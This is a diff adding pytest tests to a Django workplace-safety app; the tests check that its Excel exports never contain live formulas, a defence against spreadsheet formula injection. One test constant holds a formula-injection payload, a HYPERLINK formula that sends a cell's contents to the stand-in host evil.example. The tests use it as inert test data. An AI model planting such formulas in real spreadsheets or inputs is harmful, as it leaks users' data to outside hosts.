@@ -5,6 +5,7 @@ import time
 import zipfile
 from datetime import date
 
+import openpyxl
 import pytest
 from django.core.files.base import ContentFile
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -14,11 +15,13 @@ from django.urls import reverse
 
 from worksafe.assessment.models import Period
 from worksafe.assessment.services import period_create
+from worksafe.core import xlsx
 from worksafe.core.errors import Invalid
 from worksafe.core.middleware import RejectSurrogatesMiddleware
 from worksafe.hazards.models import Hazard
 from worksafe.ledgers import services
 from worksafe.ledgers.models import ImportJob
+from worksafe.ledgers.sheets import result_workbook
 from worksafe.orgs.scope import admits
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -300,3 +303,83 @@ def test_s5c_surrogate_in_a_page_path_or_query_is_400(rf):
         assert middleware(request).status_code == 400
     assert middleware(rf.get("/hazards/", {"q": "储罐"})).status_code == 200
     assert len(reached) == 1
+
+
+# --- S6: exports never carry a live formula ----------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&C2,"x")'
+
+
+def sheet_texts(content: bytes) -> list:
+    """Every cell value of every sheet, after checking the raw XML holds no formula."""
+    with zipfile.ZipFile(io.BytesIO(content)) as zf:
+        for name in zf.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = zf.read(name).decode()
+                assert "<f>" not in xml and "<f " not in xml, name
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def test_s6_hazard_register_export_has_no_formula(world):
+    world.make_hazard(
+        actor=world.officer_a, source="self_check", title=EVIL, location="=1+1", responsible_person="@SUM(A1)"
+    )
+    response = browser(world.officer_a).get(reverse("web:hazard_export"))
+    assert response.status_code == 200
+    values = sheet_texts(response.content)
+    assert EVIL in values and "=1+1" in values and "@SUM(A1)" in values  # the exact text
+
+
+def test_s6_activity_export_has_no_formula(world):
+    world.dept_em.name = "=1+2"
+    world.dept_em.save(update_fields=["name"])
+    world.inspector.name = "-2+3"
+    world.inspector.save(update_fields=["name"])
+    response = browser(world.office).get(reverse("inspections:activity"), {"format": "xlsx"})
+    assert response.status_code == 200
+    values = sheet_texts(response.content)
+    assert "=1+2" in values
+
+
+def test_s6_assessment_exports_have_no_formula(world, api):
+    client = api(world.office)
+    response = client.post(
+        "/api/v1/assessment/periods",
+        {"name": "=1+2", "region": "210200", "starts_on": "2026-01-01", "ends_on": "2026-12-31"},
+    )
+    assert response.status_code == 201, response.content
+    period = Period.objects.get()
+    assert (
+        client.post(
+            f"/api/v1/assessment/periods/{period.pk}/subjects", {"kind": "region", "region": "210202"}
+        ).status_code
+        == 201
+    )
+    period.indicators.update(name=EVIL)
+    for response in (
+        client.get(f"/api/v1/assessment/periods/{period.pk}/results.xlsx"),
+        browser(world.office).get(reverse("assessment:export", args=[period.pk])),
+    ):
+        assert response.status_code == 200
+        values = sheet_texts(response.content)
+        assert "=1+2" in values
+        assert any(isinstance(v, str) and v.startswith(EVIL) for v in values)
+
+
+def test_s6_ledger_template_and_result_have_no_formula(world, api):
+    template = api(world.officer_a).get("/api/v1/ledgers/templates/hazards")
+    assert template.status_code == 200
+    sheet_texts(template.content)
+    result = result_workbook(template.content, [{"row": 3, "message": "=1+2"}], header_rows=2)
+    assert "=1+2" in sheet_texts(result)
+
+
+def test_s6_safe_writer_keeps_numbers_and_ordinary_text():
+    book = openpyxl.Workbook()
+    sheet = book.active
+    xlsx.append(sheet, ["\tx", "\r=1", "+1", "-1", -1, 2.5, "a=b"])
+    values = sheet_texts(xlsx.to_bytes(book))
+    assert values == ["\tx", "\n=1", "+1", "-1", -1, 2.5, "a=b"]  # XML reads CR as LF
+    assert [cell.data_type for cell in sheet[1][:5]] == ["s", "s", "s", "s", "n"]
+    assert sheet["A1"].quotePrefix and not sheet["G1"].quotePrefix
